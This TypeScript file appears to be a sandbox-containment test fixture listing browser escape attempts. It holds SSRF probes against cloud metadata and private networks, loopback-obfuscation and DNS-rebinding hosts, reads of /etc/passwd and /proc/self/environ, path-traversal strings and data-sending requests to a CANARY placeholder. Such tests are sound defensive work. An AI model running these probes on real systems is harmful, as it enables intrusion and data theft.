/**
 * Ways out that a page may try, each as code that ends whether it works or not. `CANARY` stands for the host
 * and port that must not be reached, `PORT` for that port, `SECRET` for a file of the machine, `SERVER` for the server of
 * the worker; `say` tells the test what came of it.
 */
export const attempts: Record<string, string> = {
  'fetch of loopback': `await fetch('http://CANARY/fetch', { mode: 'no-cors' }).catch(() => 0)`,
  'fetch with a body': `await fetch('http://CANARY/', { method: 'POST', mode: 'no-cors', body: 'x'.repeat(1e5) }).catch(() => 0)`,
  'fetch of loopback by another of its names': `for (const host of ['localhost', '127.1', '2130706433', '0x7f000001', '0177.0.0.1', '0', '[::1]', '[::ffff:127.0.0.1]', 'a.localhost', '127.0.0.1.'])
    await fetch('http://' + host + ':PORT/', { mode: 'no-cors' }).catch(() => 0)`,
  'metadata of a cloud': `for (const url of ['http://169.254.169.254/latest/meta-data/', 'http://metadata.google.internal/', 'http://100.100.100.200/', 'http://[fd00:ec2::254]/'])
    say(await fetch(url).then((r) => 'reached ' + url, () => 'refused'))`,
  'private networks': `for (const url of ['http://10.0.0.1/', 'http://192.168.0.1/', 'http://172.16.0.1/', 'http://100.64.0.1/'])
    say(await fetch(url).then((r) => 'reached ' + url, () => 'refused'))`,
  'names whose address is loopback': `for (const host of ['localtest.me', 'lvh.me', '127.0.0.1.nip.io', '7f000001.7f000002.rbndr.us'])
    await fetch('http://' + host + ':PORT/', { mode: 'no-cors' }).catch(() => 0)`,
  XMLHttpRequest: `await new Promise((end) => { const x = new XMLHttpRequest(); x.onloadend = end; x.open('GET', 'http://CANARY/xhr'); x.send(); })`,
  WebSocket: `await new Promise((end) => { const s = new WebSocket('ws://CANARY/'); s.onopen = s.onclose = s.onerror = end; })`,
  EventSource: `await new Promise((end) => { const s = new EventSource('http://CANARY/'); s.onopen = end; s.onerror = () => { s.close(); end(); }; })`,
  WebTransport: `if (globalThis.WebTransport) await new WebTransport('https://CANARY/').ready.catch(() => 0)`,
  WebRTC: `const peer = new RTCPeerConnection({ iceServers: [{ urls: ['stun:CANARY', 'turn:CANARY?transport=tcp'], username: 'a', credential: 'b' }] });
    peer.createDataChannel('x'); await peer.setLocalDescription(await peer.createOffer()); await wait(300);
    say([...(peer.localDescription.sdp ?? '').matchAll(/candidate:\\S+ \\d \\w+ \\d+ (\\S+)/g)].some(([, host]) => !host.endsWith('.local')) ? 'reached an address' : 'refused')`,
  image: `root.innerHTML = '<img src="http://CANARY/img"><img srcset="http://CANARY/set 2x"><picture><source srcset="http://CANARY/source"><img></picture>'; await wait(100)`,
  frame: `root.innerHTML = '<iframe src="http://CANARY/frame"></iframe><object data="http://CANARY/object"></object><embed src="http://CANARY/embed">'; await wait(200)`,
  style: `root.innerHTML = '<style>@import "http://CANARY/import"; @font-face { font-family: f; src: url(http://CANARY/font) } p { background: url(http://CANARY/bg); font-family: f; cursor: url(http://CANARY/cursor), auto; list-style: url(http://CANARY/list) }</style><p>x</p>'; await wait(200)`,
  script: `root.append(Object.assign(document.createElement('script'), { src: 'http://CANARY/script' })); await import('http://CANARY/module').catch(() => 0)`,
  media: `root.innerHTML = '<video src="http://CANARY/video" autoplay muted poster="http://CANARY/poster"></video><audio src="http://CANARY/audio" autoplay></audio><track src="http://CANARY/track">'; await wait(200)`,
  hints: `for (const rel of ['prefetch', 'preconnect', 'dns-prefetch', 'preload', 'modulepreload', 'prerender', 'icon', 'manifest', 'stylesheet'])
    document.head.append(Object.assign(document.createElement('link'), { rel, href: 'http://CANARY/' + rel, as: 'script' })); await wait(200)`,
  'speculation rules': `root.innerHTML = ''; const s = document.createElement('script'); s.type = 'speculationrules'; s.textContent = JSON.stringify({ prefetch: [{ source: 'list', urls: ['http://CANARY/a'] }], prerender: [{ source: 'list', urls: ['http://CANARY/b'] }] }); document.head.append(s); await wait(200)`,
  SVG: `root.innerHTML = '<svg><image href="http://CANARY/i"/><use href="http://CANARY/u#x"/><filter id="f"><feImage href="http://CANARY/fe"/></filter><rect width="9" height="9" filter="url(#f)"/></svg>'; await wait(100)`,
  'beacon and ping': `navigator.sendBeacon('http://CANARY/beacon', 'x'); fetch('http://CANARY/keep', { keepalive: true, mode: 'no-cors' }).catch(() => 0);
    const a = Object.assign(document.createElement('a'), { href: '#here', ping: 'http://CANARY/ping' }); root.append(a); a.click(); await wait(100)`,
  'reports of violations': `document.head.insertAdjacentHTML('beforeend', '<meta http-equiv="Content-Security-Policy" content="img-src none; report-uri http://CANARY/csp">'); root.innerHTML = '<img src="/x.png">'; await wait(100)`,
  worker: `new Worker(URL.createObjectURL(new Blob(['fetch("http://CANARY/w", {mode:"no-cors"}); importScripts("http://CANARY/i")']))); if (globalThis.SharedWorker) new SharedWorker('data:text/javascript,fetch("http://CANARY/s",{mode:"no-cors"})'); await wait(300)`,
  worklet: `await CSS.paintWorklet?.addModule('http://CANARY/paint').catch(() => 0); const c = new AudioContext(); await c.audioWorklet?.addModule('http://CANARY/audio').catch(() => 0)`,
  'service worker': `await navigator.serviceWorker?.register('/sw.js').catch(() => 0); await wait(300)`,
  window: `open('http://CANARY/open'); open('file:///etc/passwd'); open('chrome://settings'); open('about:blank')?.fetch?.('http://CANARY/popup', { mode: 'no-cors' }).catch(() => 0); await wait(100)`,
  'form in a frame': `root.innerHTML = '<iframe name="f"></iframe><form target="f" method="post" action="http://CANARY/form"><input name="a" value="b"></form>'; root.querySelector('form').submit(); await wait(200)`,
  'frame that goes elsewhere': `const f = document.createElement('iframe'); f.srcdoc = '<meta http-equiv=refresh content="0;url=http://CANARY/refresh"><base href="http://CANARY/base/"><img src=x>'; root.append(f); await wait(300)`,
  'redirects to loopback': `for (const url of ['http://httpbin.org/redirect-to?url=http://CANARY/', 'http://redirect.invalid/']) await fetch(url, { mode: 'no-cors', signal: AbortSignal.timeout(500) }).catch(() => 0)`,
  'proxy as a target': `await fetch('http://CANARY/', { method: 'GET', mode: 'no-cors', headers: { 'Proxy-Authorization': 'x', 'X-Forwarded-Host': 'CANARY' } }).catch(() => 0)`,
  'files of the machine': `for (const url of ['SECRET', 'file:///etc/passwd', 'file:///proc/self/environ']) {
      say(await fetch(url).then((r) => r.text()).then((text) => 'reached ' + text.slice(0, 40), () => 'refused'));
      const f = Object.assign(document.createElement('iframe'), { src: url }); root.append(f); await wait(50);
      let text = ''; try { text = f.contentDocument?.body?.innerText ?? ''; } catch {}
      say(text === '' ? 'refused' : 'reached ' + text);
      await import(url).then(() => say('reached'), () => say('refused'));
    }`,
  'file as picture and style': `root.innerHTML = '<img src="file:///usr/share/pixmaps/debian-logo.png"><link rel="stylesheet" href="SECRET"><object data="SECRET" type="text/plain"></object><embed src="SECRET">'; await wait(200); say(root.querySelector('img').naturalWidth > 0 ? 'reached' : 'refused')`,
  'addresses of the browser': `for (const url of ['chrome://version', 'view-source:file:///etc/passwd', 'devtools://devtools/bundled/inspector.html', 'filesystem:http://x/', 'ftp://CANARY/'])
    say(await fetch(url).then(() => 'reached ' + url, () => 'refused'))`,
  'debugging port': `for (const p of [9222, 9229, 9515, 4444]) say(await fetch('http://127.0.0.1:' + p + '/json').then(() => 'reached ' + p, () => 'refused'))`,
  'server of the worker': `say(await fetch('SERVER/api/worker/leases', { method: 'POST' }).then(() => 'reached', () => 'refused'))`,
  'path out of the package': `for (const path of ['/../../../etc/passwd', '/..%2f..%2fetc/passwd', '/%2e%2e/%2e%2e/etc/passwd', '/....//etc/passwd', '//etc/passwd', '/a/../../../../etc/hostname'])
    say(await fetch(path).then(async (r) => (r.ok && (await r.text()).includes('root:') ? 'reached' : 'refused'), () => 'refused'))`,
  'permission prompts': `const asked = await Promise.all([
      Notification.requestPermission().catch(() => 'denied'),
      new Promise((end) => navigator.geolocation.getCurrentPosition(() => end('granted'), () => end('denied'), { timeout: 300 })),
      navigator.mediaDevices?.getUserMedia({ audio: true, video: true }).then(() => 'granted', () => 'denied'),
      navigator.mediaDevices?.getDisplayMedia?.({}).then(() => 'granted', () => 'denied'),
      navigator.clipboard?.readText().then(() => 'granted', () => 'denied'),
      navigator.requestMIDIAccess?.({ sysex: true }).then(() => 'granted', () => 'denied'),
      navigator.usb?.requestDevice({ filters: [] }).then(() => 'granted', () => 'denied'),
      navigator.bluetooth?.requestDevice({ acceptAllDevices: true }).then(() => 'granted', () => 'denied'),
      globalThis.showOpenFilePicker?.().then(() => 'granted', () => 'denied'),
      globalThis.queryLocalFonts?.().then((fonts) => (fonts.length > 0 ? 'granted' : 'denied'), () => 'denied'),
    ].map((one) => Promise.race([one ?? 'denied', wait(600).then(() => 'denied')])));
    say(asked.includes('granted') ? 'reached ' + asked : 'refused')`,
  download: `for (const href of ['data:application/octet-stream,x', URL.createObjectURL(new Blob(['x'.repeat(1e6)])), '/iframe.html']) {
      const a = Object.assign(document.createElement('a'), { href, download: 'twinlens-escape.bin' }); root.append(a); a.click(); } await wait(200)`,
  'print and dialogs': `print(); alert(1); confirm(2); prompt(3); await wait(50)`,
  'full screen and pointer': `root.requestFullscreen().catch(() => 0); root.requestPointerLock?.()?.catch?.(() => 0); navigator.wakeLock?.request('screen').catch(() => 0); window.moveTo(0, 0); window.resizeTo(9, 9); await wait(50)`,
  'things left behind': `localStorage.left = 'x'; document.cookie = 'left=x; max-age=99999'; sessionStorage.left = 'x'; await caches.open('left').then((c) => c.put('/x', new Response('x'))).catch(() => 0);
    await new Promise((end) => { const r = indexedDB.open('left', 1); r.onsuccess = r.onerror = end; })`,
};
